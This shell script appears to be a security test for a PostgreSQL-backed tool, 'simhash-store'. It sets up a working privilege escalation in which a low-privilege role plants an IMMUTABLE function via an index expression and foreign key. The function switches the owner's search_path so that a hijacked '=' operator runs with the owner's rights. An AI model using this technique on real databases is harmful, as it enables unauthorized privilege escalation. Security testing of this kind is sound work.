#!/bin/sh
# A role that held REFERENCES on simhash.documents (and CREATE on the database) leaves a foreign key
# ON DELETE NO ACTION (allowed: only CASCADE / SET NULL / SET DEFAULT are refused) from a table with an
# index on an expression holding a call of its own IMMUTABLE function with constant arguments. PostgreSQL
# checks a delete from documents with a query on that table, planned in the owner's session as the table's
# owner; planning folds the constant call, and the function sets the session's search_path to its schema.
# The owner's next statement of that session then runs its = operator, with the owner's rights.
# Run hostile/setup.sh first.
set -e
P="psql -h 127.0.0.1 -d h15r_db -v ON_ERROR_STOP=1 -q"
export SIMHASH_STORE_URL=postgresql://h15r_owner@127.0.0.1:5432/h15r_db
S=${S:-.venv/bin/simhash-store}
printf '{"key":"d1","text":"天地玄黄宇宙洪荒日月盈昃辰宿列张"}\n{"key":"d2","text":"寒来暑往秋收冬藏闰余成岁律吕调阳"}\n' > /tmp/h15r_fk.jsonl
$S add --jsonl /tmp/h15r_fk.jsonl
$P -U h15r_owner -c "GRANT USAGE ON SCHEMA simhash TO h15r_plain; GRANT REFERENCES ON simhash.documents TO h15r_plain"
$P -U h15r_plain <<'SQL'
CREATE SCHEMA app;
GRANT USAGE ON SCHEMA app TO PUBLIC;
CREATE TABLE app.stolen (who text, what text);
GRANT INSERT ON app.stolen TO PUBLIC;
CREATE SEQUENCE app.g_ran;
GRANT USAGE ON SEQUENCE app.g_ran TO PUBLIC;
CREATE FUNCTION app.g(integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  PERFORM pg_catalog.nextval('app.g_ran');
  PERFORM pg_catalog.set_config('search_path', 'app, pg_catalog', false);
  RETURN $1;
END $$;
CREATE FUNCTION app.texteq(text, text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO app.stolen VALUES (current_user, 'app.= on text ran');
  RETURN $1 OPERATOR(pg_catalog.=) $2;
END $$;
CREATE OPERATOR app.= (LEFTARG = text, RIGHTARG = text, FUNCTION = app.texteq);
CREATE FUNCTION app.int8eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO app.stolen VALUES (current_user, 'app.= on bigint ran');
  RETURN $1 OPERATOR(pg_catalog.=) $2;
END $$;
CREATE OPERATOR app.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = app.int8eq);
CREATE TABLE app.t (k text REFERENCES simhash.documents (key) ON DELETE NO ACTION, x integer);
CREATE INDEX ON app.t ((x OPERATOR(pg_catalog.+) app.g(1)));
SQL
$P -U h15r_owner -c "REVOKE REFERENCES ON simhash.documents FROM h15r_plain"
$S stats > /dev/null && echo "stats: store accepted"
$S remove d1 || true
$S remove d2 || true
$P -U root -c "SELECT who, what, count(*) FROM app.stolen GROUP BY 1, 2" -c "SELECT last_value AS g_ran FROM app.g_ran"
rm -f /tmp/h15r_fk.jsonl
